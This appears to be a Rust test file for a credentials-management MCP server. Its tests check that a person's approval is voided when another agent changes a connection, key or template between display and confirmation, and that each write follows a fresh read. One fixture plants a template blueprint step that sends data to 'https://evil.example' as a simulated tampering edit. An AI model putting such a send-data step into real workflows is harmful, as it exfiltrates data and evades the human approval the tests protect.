//! A yes is for what was shown, also when it changes after that: each request that changes something
//! comes right after a look that has found the same.

use std::sync::{Arc, Mutex};

use make_credentials_mcp::grants::Asks;
use make_credentials_mcp::sandbox::{Act, seeded};
use make_credentials_mcp::state::State;
use make_credentials_mcp::tools::{ALL, Approvals};
use serde_json::{Value, json};

use super::person::{Meanwhile, asking, changes, lengthen, options};
use crate::examples::example;
use crate::world::{World, approval_key, call};

/// A change by another agent to what the example call of a tool is about, as small as they come:
/// behind the end of what is shown of a name, deep in a blueprint. `None` where the call is about
/// nothing that is there already.
fn change(tool: &str) -> Option<Vec<(&'static str, Value)>> {
    let long = |end: char| format!("{}{end}", "n".repeat(100));
    let content = |id: u64| {
        let flow = json!([{"id": 1, "module": "http:ActionSendData", "mapper": {"url": "https://evil.example"}}]);
        let blueprint = json!({"name": "Weekly report", "flow": flow});
        (
            "templates_update",
            json!({"templateId": id, "blueprint": blueprint}),
        )
    };
    Some(match tool {
        "connections_update" => vec![(
            "connections_update",
            json!({"connectionId": 104, "name": long('b')}),
        )],
        "connections_delete" | "credential_requests_credential_delete" => {
            vec![(
                "connections_update",
                json!({"connectionId": 102, "name": long('b')}),
            )]
        }
        "connections_set_access" | "connections_remove_access" => {
            vec![(
                "connections_update",
                json!({"connectionId": 101, "name": long('b')}),
            )]
        }
        "keys_update" | "keys_delete" => {
            vec![("keys_update", json!({"keyId": 401, "name": long('b')}))]
        }
        "templates_update" | "templates_delete" | "templates_publish" => vec![content(601)],
        "template_flows_start" => vec![
            content(602),
            ("templates_publish", json!({"templateId": 602})),
        ],
        // Of the last a person is asked about what has changed, see below.
        "credential_requests_create_for_user"
        | "credential_requests_create_v1"
        | "credential_requests_delete" => return None,
        other => panic!("{other}: what changes under it?"),
    })
}

#[tokio::test]
async fn what_changes_while_a_person_agrees_is_not_done_whatever_the_tool() {
    for entry in ALL.iter().filter(|entry| entry.spec.asks != Asks::Never) {
        let tool = entry.spec.name;
        let Some(steps) = change(tool) else { continue };
        let world = World::of(options()).await;
        lengthen(&world).await;
        let (other, steps) = (Arc::new(world.sure()), Arc::new(steps));
        let count = steps.len();
        let meanwhile: Meanwhile = Arc::new(move |_| {
            let (other, steps) = (Arc::clone(&other), Arc::clone(&steps));
            Box::pin(async move {
                for (tool, arguments) in steps.iter() {
                    call(&other, tool, arguments.clone()).await.unwrap();
                }
            })
        });
        let (result, asked) = asking(&world.session(), tool, example(tool, ""), meanwhile).await;
        let refused = result.unwrap_err();
        assert_eq!(json!(refused.code), "not_confirmed", "{tool}: {refused:?}");
        let changed = refused.details.unwrap()["changed"].clone();
        assert!(!changed.as_array().unwrap().is_empty(), "{tool}");
        assert_eq!(asked, 1, "{tool}");
        assert_eq!(
            changes(&world).len(),
            count,
            "{tool}: {:?}",
            changes(&world)
        );
    }
}

/// Reads that are remembered for the whole process.
fn is_remembered(line: &str) -> bool {
    ["GET /organizations", "GET /users/me", "GET /keys/types"]
        .iter()
        .any(|start| line.starts_with(start))
}

#[tokio::test]
async fn the_last_look_is_the_last_request_before_each_change() {
    for entry in ALL.iter().filter(|entry| entry.spec.asks != Asks::Never) {
        let tool = entry.spec.name;
        let world = Arc::new(World::of(options()).await);
        if tool == "connections_remove_access" {
            let add = example("connections_set_access", "");
            call(&world.sure(), "connections_set_access", add)
                .await
                .unwrap();
            world.zone.clear_requests();
        }
        let session = world.session();
        // Whose it is is remembered too, where a tool asks for that itself.
        let known = json!({"connectionId": 101});
        call(&session, "connections_list_access", known)
            .await
            .unwrap();
        world.zone.clear_requests();
        let looked = Arc::new(Mutex::new(Vec::new()));
        let (zone, reads) = (Arc::clone(&world), Arc::clone(&looked));
        let meanwhile: Meanwhile = Arc::new(move |_| {
            let sent = zone.sent().into_iter();
            *reads.lock().unwrap() = sent.filter(|line| !is_remembered(line)).collect();
            Box::pin(async {})
        });
        let (result, asked) = asking(&session, tool, example(tool, ""), meanwhile).await;
        assert!(result.is_ok(), "{tool}: {result:?}");
        assert_eq!(asked, 1, "{tool}");
        let looked = looked.lock().unwrap().clone();
        assert!(
            !looked.is_empty() || tool.starts_with("credential_requests_create"),
            "{tool} reads nothing"
        );
        let sent = world.sent();
        let mut since: Vec<String> = Vec::new();
        for line in sent {
            if line.starts_with("GET ") {
                since.push(line);
                continue;
            }
            assert!(since.ends_with(&looked), "{tool}: {line} after {since:?}");
            since.clear();
        }
        assert!(!changes(&world).is_empty(), "{tool}");
    }
}

#[tokio::test]
async fn a_change_behind_the_end_of_what_is_shown_of_a_name_is_seen_at_the_terminal() {
    let world = World::of(options()).await;
    lengthen(&world).await;
    let delete = json!({"connectionId": 102});
    let waits = call(&world.session(), "connections_delete", delete.clone()).await;
    let details = waits.unwrap_err().details.unwrap();
    let first = details["plan"][0].as_str().unwrap();
    assert!(
        first.contains("n…\" (101 characters in all) for good."),
        "{first}"
    );
    let approvals = Approvals::at(State::at(Some(world.home.clone())), approval_key());
    let waiting = approvals.get(details["approval"].as_str().unwrap()).await;
    assert!(
        approvals
            .decide(&waiting.unwrap().unwrap(), true, "me")
            .await
            .unwrap()
    );
    let rename = json!({"connectionId": 102, "name": format!("{}b", "n".repeat(100))});
    call(&world.sure(), "connections_update", rename)
        .await
        .unwrap();
    let refused = call(&world.session(), "connections_delete", delete)
        .await
        .unwrap_err();
    assert_eq!(json!(refused.code), "not_confirmed", "{refused:?}");
    assert_eq!(changes(&world), ["PATCH /connections/102"]);
}

#[tokio::test]
async fn whoever_has_declined_meanwhile_is_asked_about_in_the_same_call() {
    let world = Arc::new(World::of(options()).await);
    let zone = Arc::clone(&world);
    let meanwhile: Meanwhile = Arc::new(move |before| {
        if before == 0 {
            let act = Act::Decline("no".to_owned());
            zone.zone.act(seeded::PENDING_REQUEST, &act).unwrap();
        }
        Box::pin(async {})
    });
    let arguments = json!({"requestId": seeded::PENDING_REQUEST, "withCredentials": true});
    let tool = "credential_requests_delete";
    let (result, asked) = asking(&world.session(), tool, arguments, meanwhile).await;
    assert_eq!(result.unwrap()["deleted"], true);
    assert_eq!(asked, 2);
}
